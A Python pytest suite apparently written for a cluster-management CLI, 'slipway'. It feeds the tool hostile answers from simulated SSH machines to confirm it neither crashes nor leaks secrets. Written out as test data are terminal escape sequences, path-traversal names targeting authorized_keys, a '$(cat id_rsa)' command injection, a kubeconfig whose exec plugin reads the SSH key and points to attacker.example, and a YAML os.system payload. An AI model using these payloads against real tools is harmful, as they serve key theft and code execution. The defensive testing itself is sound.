"""Machines that lie: to every verb that talks to machines, in every way.

``Home.slipway`` judges each command (exit code, crashes, terminal sequences, memory, canaries); a test adds what it alone expects.
"""

from __future__ import annotations

import base64
import json
import re
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from tests.hostile import images
from tests.hostile.answers import STATE, cluster, facts, healthy, snapshot, stored
from tests.hostile.canary import SECRET, Home, Outcome, leading, lines, tells, told
from tests.hostile.sshd import Answer, Sshd, drip, endless, hang, hangs_up, says

# Everything that a terminal obeys: colours, a title, a clipboard, C1, carriage return, backspace, marks that turn the direction of text.
SEQUENCES = "\x1b[2J\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x9b31m\u009d\r\x08\x7f\u202egpj\u2066\u200f\x00\u2028"

WORKER, CONTROL_PLANE = "127.0.0.2", "127.0.0.1"


def login(machines: Sshd) -> tuple[str | Path, ...]:
    return ("--port", str(machines.port), "--key", machines.key)


def known(machines: Sshd) -> tuple[str | Path, ...]:
    """Options that name a cluster by its control-plane node and its worker."""
    return ("--control-plane", CONTROL_PLANE, "--workers", WORKER, *login(machines))


def remembered(home: Home, machines: Sshd) -> None:
    """The cluster ``default``, as this machine remembers one that it has made."""
    folder = home.state / "clusters/default"
    folder.mkdir(parents=True)
    entry = {"user": "root", "port": machines.port, "key": str(machines.key)}
    found = {"name": "default", "image": "bad:latest", "digest": "sha256:" + "0" * 64}
    found |= {"controlPlane": [{"address": CONTROL_PLANE, "name": "m", **entry}], "workers": [{"address": WORKER, "name": "w", **entry}]}  # type: ignore[dict-item]
    (folder / "cluster.json").write_text(json.dumps(found))


def loaded(home: Home, layout: images.Layout | None = None) -> None:
    """Load an image, a good one without another."""
    layout = layout or images.cloud_image([images.layer(images.BASIC)])
    assert home.slipway("load", "-f", layout.archive(home.work / "image.tar")).code == 0


def run(home: Home, machines: Sshd, *words: str) -> Outcome:
    return home.slipway("run", "bad", "--control-plane", CONTROL_PLANE, *login(machines), "--timeout", "1", *words)


# ---- every verb, every kind -------------------------------------------------------------------------------------------

Verb = Callable[[Home, Sshd], Outcome]

VERBS: dict[str, Verb] = {
    "logs": lambda home, machines: home.slipway("logs", *known(machines), "-f", home.work / "logs.tar.gz"),
    # Into a file exec writes what it is given as it is.
    "exec": lambda home, machines: home.slipway("exec", *known(machines), "--", "uptime", on_terminal=True),
    "exec-role": lambda home, machines: home.slipway("exec", *known(machines), "--role", "edge", "--", "uptime", on_terminal=True),
    "status": lambda home, machines: home.slipway("status", *known(machines)),
    "check-pre": lambda home, machines: home.slipway("check", "--pre", *known(machines)),
    "check-post": lambda home, machines: home.slipway("check", "--post", *known(machines)),
    "kubeconfig": lambda home, machines: home.slipway("kubeconfig", "--control-plane", CONTROL_PLANE, *login(machines)),
    "generate": lambda home, machines: home.slipway("generate", "--from-cluster", "--control-plane", CONTROL_PLANE, *login(machines)),
    "run": lambda home, machines: home.slipway("run", "bad", *known(machines), "--timeout", "1"),
    "join": lambda home, machines: home.slipway("join", "--via", CONTROL_PLANE, "--workers", WORKER, *login(machines), "--timeout", "1"),
    "remove": lambda home, machines: home.slipway("remove", WORKER, "--via", CONTROL_PLANE, *login(machines), "--yes"),
    "upgrade": lambda home, machines: home.slipway("upgrade", "bad", "--via", CONTROL_PLANE, *login(machines), "--yes", "--timeout", "1"),
    "rollback": lambda home, machines: home.slipway("rollback", "--yes"),
    "apply": lambda home, machines: home.slipway("apply", "bad", *known(machines), "--timeout", "1"),
    "apps": lambda home, machines: home.slipway("apps"),
    "backup": lambda home, machines: home.slipway("backup", "-f", home.work / "backup.tar"),
    "certs": lambda home, machines: home.slipway("certs"),
    "delete": lambda home, machines: home.slipway("delete", *known(machines), "--yes"),
}

LIES: dict[str, tuple[str, Answer]] = {
    # Text of a command, and the answer to it; the empty text stands in all.
    "nothing": ("", says()),
    "terminal": ("", says(f"{SEQUENCES} {SEQUENCES}\n", errors=SEQUENCES)),
    "terminal-failing": ("", says(f"{SEQUENCES} {SEQUENCES}\n", errors=SEQUENCES, code=1)),
    "wrong-json": ("", says('{"items": [5, null, {"metadata": 3, "status": "x"}], "data": [], "spec": {"hosts": 7}}')),
    "other-json": ("", says('{"items": {"a": 1e999}, "data": {"Clusterfile": "[", "digest": NaN}, "status": [], "metadata": {}}')),
    "deep-json": ("", says('{"items":' + "[" * 100_000 + "]" * 100_000 + "}")),
    "hang-up": ("kubectl", hangs_up),
    "endless": ("", endless()),
}
ONLY = {
    # Where it is read is below all verbs: one for each way in which they ask. exec hands on what a command prints for as long as it does.
    "endless": ("logs", "status", "check-pre", "check-post", "kubeconfig", "run"),
    "hang-up": ("logs", "exec-role", "status", "check-post", "generate", "join", "apply", "backup"),
    # Told in the same way, whatever the exit code.
    "terminal-failing": ("exec", "logs", "check-pre", "run", "join", "delete"),
}


@pytest.mark.parametrize(("verb", "lie"), [(verb, lie) for verb in VERBS for lie in LIES if verb in ONLY.get(lie, VERBS)])
def test_verb_hostile_answer_of_machine_neither_crashes_nor_leaks_secret(verb: str, lie: str, home: Home, machines: Sshd) -> None:
    remembered(home, machines)
    if verb in ("run", "upgrade", "apply"):
        loaded(home)
    part, answer = LIES[lie]
    for machine in machines.machines.values():
        machine.on(part, answer)
        if part or lie == "endless":
            # Else nothing would come after the first word.
            machine.on("uname -n", says("node\n"))
    VERBS[verb](home, machines)
    assert not told(machines)


# ---- paths ------------------------------------------------------------------------------------------------------------


def bundle_names(home: Home) -> list[str]:
    with tarfile.open(home.work / "logs.tar.gz") as tar:
        return tar.getnames()


def test_logs_hostile_paths_of_machine_stay_inside_bundle(home: Home, machines: Sshd) -> None:
    targets = [home.home / ".ssh/authorized_keys", home.home / ".ssh/new", home.home / ".config/autostart/x.desktop"]
    listed = [f"/var/log/pods/{leading(target)}" for target in targets]
    listed += [str(target) for target in targets] + [f"/var/log/pods/a/{'../' * 5}{target}" for target in targets]
    listed += ["/var/log/pods/kube-system_a/0.log", "/var/log/pods/\x00", "/var/log/pods/" + "x" * 5000, "/var/log/pods/"]
    cluster(machines.first, stored())
    machines.first.on("tail -c", says("ssh-ed25519 AAAA attacker\n"))
    machines.first.on("/var/log/pods/kube-system_", says(lines(listed)))
    assert home.slipway("logs", "--control-plane", CONTROL_PLANE, *login(machines), "-f", home.work / "logs.tar.gz").code == 0
    assert all(not name.startswith("/") and ".." not in name.split("/") for name in bundle_names(home))


@pytest.mark.parametrize("name", ["../../../x", "/etc", "..", "a/../../..", "x" * 4000, "a\x1b[31mb", "", "-rf", "a b", "a\nb"])
def test_logs_hostile_machine_name_gives_safe_bundle_paths(name: str, home: Home, machines: Sshd) -> None:
    cluster(machines.first, stored())
    machines.first.on("uname -n", says(f"{name}\n"))
    assert home.slipway("logs", "--control-plane", CONTROL_PLANE, *login(machines), "-f", home.work / "logs.tar.gz").code == 0
    assert all(re.fullmatch(r"index\.json|status\.json|(cluster|nodes)/[\w./-]+", entry) for entry in bundle_names(home)), bundle_names(
        home
    )


def test_run_local_paths_listed_by_machine_are_not_sent(home: Home, machines: Sshd) -> None:
    loaded(home)
    healthy(machines.first)
    key = home.home / ".ssh/id_rsa"
    named = [str(key), f"/{key}", leading(key), f"etc/{leading(key)}", "etc/..", "../state/clusters/other/kubeconfig", "", ".", "\x00"]
    machines.first.on(f"{STATE}/rendered", says(lines(named)))
    run(home, machines)
    assert machines.first.was_told(f"{STATE}/rendered")
    assert not told(machines)


@pytest.mark.parametrize("name", ["../../etc/passwd", "..", "/", "."])
def test_run_hostile_path_listed_by_machine_does_not_crash(name: str, home: Home, machines: Sshd) -> None:
    loaded(home)
    healthy(machines.first)
    machines.first.on(f"{STATE}/rendered", says(f"{name}\n"))
    run(home, machines)
    assert machines.first.was_told(f"{STATE}/rendered")


HOOK = """apiVersion: sealer.cloud/v2
kind: Cluster
metadata: {{name: default}}
spec:
  image: bad:latest
  hosts: [{{ips: [127.0.0.1], roles: [master], ssh: {{port: {port}, pk: {key}}}}}]
---
apiVersion: sealer.io/v1
kind: Plugin
metadata: {{name: keep}}
spec: {{type: ETCD, action: pre-init-host, on: "{target}"}}
"""


def test_join_hook_path_of_stored_clusterfile_writes_no_local_file(home: Home, machines: Sshd) -> None:
    layout = images.cloud_image([images.layer(images.BASIC)])
    loaded(home, layout)
    text = HOOK.format(target=home.home / ".ssh/authorized_keys", port=machines.port, key=machines.key)
    for machine in machines.machines.values():
        healthy(machine)
    record = stored(text, digest=layout.index[0]["digest"])
    cluster(machines.first, record)
    snapshot(machines.first, b"ssh-ed25519 AAAA attacker\n")
    outcome = home.slipway("join", "--via", CONTROL_PLANE, "--workers", WORKER, *login(machines), "--timeout", "1")
    assert outcome.code == 2
    assert f"the stored Clusterfile:8: hook keep names {home.home}/.ssh/authorized_keys: an image, or the Cl" in outcome.stderr
    assert not machines.first.was_told("snapshot save")


def test_join_key_path_of_stored_clusterfile_is_not_sent(home: Home, machines: Sshd) -> None:
    text = HOOK.split("---", maxsplit=1)[0].format(target="", port=machines.port, key=home.home / ".ssh/id_rsa")
    cluster(machines.first, stored(text + f"env: ['A=$(cat {home.home}/.ssh/id_rsa)']\n"))
    home.slipway("join", "--via", CONTROL_PLANE, "--workers", WORKER, *login(machines), "--timeout", "1")
    assert not told(machines)


# ---- programs ---------------------------------------------------------------------------------------------------------


def pem(kind: str) -> str:
    body = base64.b64encode(b"not a real one, but no more than PEM is asked for" * 3).decode()
    return base64.b64encode(f"-----BEGIN {kind}-----\n{body}\n-----END {kind}-----\n".encode()).decode()


def evil_kubeconfig(home: Home) -> dict[str, object]:
    """What kubectl would run, read and obey."""
    run_here = {"command": "sh", "args": ["-c", f"cat {home.home}/.ssh/id_rsa"], "apiVersion": "client.authentication.k8s.io/v1"}
    return {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "a",
        "contexts": [{"name": "a", "context": {"cluster": "a", "user": "a"}}],
        "clusters": [
            {
                "name": "a",
                "cluster": {
                    "server": "https://attacker.example:6443",
                    "proxy-url": "http://attacker.example",
                    "insecure-skip-tls-verify": True,
                    "certificate-authority": f"{home.home}/.ssh/id_rsa",
                    "certificate-authority-data": pem("CERTIFICATE"),
                },
            }
        ],
        "users": [
            {
                "name": "a",
                "user": {
                    "exec": {**run_here, "interactiveMode": "Never"},
                    "auth-provider": {"name": "gcp", "config": {"cmd-path": "/bin/sh"}},
                    "client-key": f"{home.home}/.ssh/id_rsa",
                    "tokenFile": f"{home.home}/.ssh/id_rsa",
                    "client-certificate-data": pem("CERTIFICATE"),
                    "client-key-data": pem("RSA PRIVATE KEY"),
                },
            }
        ],
    }


_OBEYED = (
    "exec",
    "auth-provider",
    "proxy-url",
    "insecure-skip-tls-verify",
    "client-key:",
    "tokenFile",
    "certificate-authority:",
    "attacker",
)


@pytest.mark.parametrize("how", ["printed", "file", "merged"])
def test_kubeconfig_of_machine_loses_programs_and_local_paths(how: str, home: Home, machines: Sshd) -> None:
    cluster(machines.first, stored())
    text = yaml.safe_dump(evil_kubeconfig(home))
    machines.first.on("admin.conf", says(text))
    machines.first.on("base64 <", says(base64.b64encode(text.encode())))
    machines.first.on("/readyz", says("ok"))
    target = home.work / "kubeconfig"
    options: dict[str, tuple[str | Path, ...]] = {"printed": (), "file": ("-f", target), "merged": ("--merge",)}
    outcome = home.slipway(
        "kubeconfig",
        "--control-plane",
        CONTROL_PLANE,
        *login(machines),
        *options[how],
        env={"KUBECONFIG": str(target)} if how == "merged" else None,
    )
    assert outcome.code == 0
    made = outcome.stdout + (target.read_text() if target.exists() else "")
    assert not [word for word in _OBEYED if word in made], made
    # Its certificates and its key arrive. The address of the API is that of the command line.
    assert f"client-key-data: {pem('RSA PRIVATE KEY')}" in made
    assert f"server: https://{CONTROL_PLANE}:6443" in made


@pytest.mark.parametrize(
    "text",
    [
        "[]",
        "users: 5\nclusters: []",
        "clusters: [{name: a, cluster: {certificate-authority-data: '####'}}]\nusers: [{name: a, user: {}}]",
        images.aliases(),
        images.deep(),
        "a: &a [*a]",
        "\x00",
        "!!python/object/apply:os.system [id]",
    ],
    ids=["list", "number", "no-base64", "aliases", "deep", "cycle", "binary", "object"],
)
def test_kubeconfig_invalid_answer_of_machine_is_refused(text: str, home: Home, machines: Sshd) -> None:
    cluster(machines.first, stored())
    machines.first.on("base64 <", says(base64.b64encode(text.encode())))
    machines.first.on("/readyz", says("ok"))
    assert home.slipway("kubeconfig", "--control-plane", CONTROL_PLANE, *login(machines)).code != 0


# ---- lies about facts -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "link eth0",
        "route eth0 zzzz 0 0",
        "route eth0 00000000 0100007F 01010101",
        "route6 eth0 zz zz zz",
        "route6 eth0 " + "f" * 40 + " 00 " + "f" * 40,
        "port zz",
        "port -1",
        "owner zz 1 x",
        "capabilities zz",
        "time now",
        "time inf",
        "time nan",
        "begun 1e999",
        "resolv",
        "address",
        "hosts 1",
        "cpus ²",
        "memory " + "9" * 5000,
        "place /var/lib 42 / ² 8 9 9 ext4",
        "place a b c d e f g",
        "os =",
        "containers ² ²",
        "limit ²",
        "files ²",
        "arch \x1b[31m",
        "service",
        f"host {SEQUENCES}",
        "cluster ../../x y",
    ],
)
def test_check_pre_malformed_fact_does_not_crash(line: str, home: Home, machines: Sshd) -> None:
    healthy(machines.first, more=line)
    home.slipway("check", "--pre", "--control-plane", CONTROL_PLANE, *login(machines))
    assert machines.first.was_told("MemTotal")


@pytest.mark.parametrize("answer", ["reach 127.0.0.1 8² ok", "listening 8² 7²", "packet", "sync nan", "sync -1e999", "reach " * 100_000])
def test_check_pre_malformed_probe_answer_does_not_crash(answer: str, home: Home, machines: Sshd) -> None:
    for machine in machines.machines.values():
        machine.on("", says(f"{answer}\n"))
        healthy(machine)
    home.slipway("check", "--pre", *known(machines))


def bad_record(text: str, says: str) -> tuple[object, str, str]:
    """A record whose Clusterfile is not one: ``join`` and ``status`` name the fault."""
    return stored(text), says, says


RECORDS: dict[str, tuple[object, str, str]] = {
    # Answer of the API, fault that join names, what status says beside the state of the cluster.
    "hosts": (stored("kind: Cluster\nspec: {hosts: 5}"), ".spec.hosts: must be a list, not '5'", "image  bad:latest"),
    "ips": (stored("kind: Cluster\nspec: {hosts: [{ips: 7}]}"), ".spec.hosts[0].ips: must be text, not 7", "image  bad:latest"),
    "text": bad_record("[1, 2", "is not usable YAML: line 2"),
    "aliases": bad_record(images.aliases(), "more than 200000 values, aliases included"),
    "merges": bad_record(images.merges(), "more than 200000 values, aliases included"),
    "deep": bad_record(images.deep(), "exceeded maximum nesting depth"),
    "cycle": bad_record("a: &a [*a]", "it holds itself, by an alias"),
    "terminal": (stored(image=SEQUENCES, digest=SEQUENCES), "is not an image name", r"image  \x1b[2J\x1b]0;owned\x07"),
    "none": ({"data": None}, "contains no document", ""),
    "number": ({"data": {"Clusterfile": 5}}, "data does not hold text only", "data does not hold text only"),
    "empty": ({}, "contains no document", ""),
    "list": ([], "the answer is not an object", "the answer is not an object"),
}


def with_record(home: Home, machines: Sshd, record: object) -> None:
    remembered(home, machines)
    for machine in machines.machines.values():
        healthy(machine)
    cluster(machines.first, json.dumps(record))


@pytest.mark.parametrize("kind", RECORDS)
def test_join_malformed_cluster_record_is_refused_with_its_fault(kind: str, home: Home, machines: Sshd) -> None:
    record, fault, _ = RECORDS[kind]
    with_record(home, machines, record)
    outcome = VERBS["join"](home, machines)
    assert outcome.code in (2, 5, 7)
    assert fault in outcome.stderr
    assert not machines.machines[WORKER].was_told("tar ")


@pytest.mark.parametrize("kind", RECORDS)
def test_status_malformed_cluster_record_shows_state_without_it(kind: str, home: Home, machines: Sshd) -> None:
    record, _, line = RECORDS[kind]
    with_record(home, machines, record)
    outcome = VERBS["status"](home, machines)
    assert outcome.code == 0
    assert machines.first.was_told("get configmap slipway-clusterfile")
    assert outcome.stdout.startswith("default  not healthy, Kubernetes v1.31.4\n")
    assert line in outcome.stdout if line else "image" not in outcome.stdout


# ---- hanging ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("way", ["silent", "dripping"])
def test_kubeconfig_silent_or_dripping_machine_is_given_up(way: str, home: Home, machines: Sshd) -> None:
    cluster(machines.first, stored())
    machines.first.on("base64 <", hang if way == "silent" else drip(b"A"))
    assert home.slipway("kubeconfig", "--control-plane", CONTROL_PLANE, *login(machines), command_limit=5).code in (5, 6)
    assert machines.first.was_told("base64 <")


def test_canary_in_data_sent_to_machine_is_detected(home: Home, machines: Sshd) -> None:
    """What all tests above rely on."""
    outcome = home.slipway("exec", "--control-plane", CONTROL_PLANE, *login(machines), "--", f"echo {SECRET.decode()}")
    assert outcome.code == 0
    assert told(machines) == [CONTROL_PLANE]
    assert tells(b"x" + base64.b64encode(b"ab" + SECRET + b"c"))
    assert facts("a", CONTROL_PLANE).startswith("begun ")
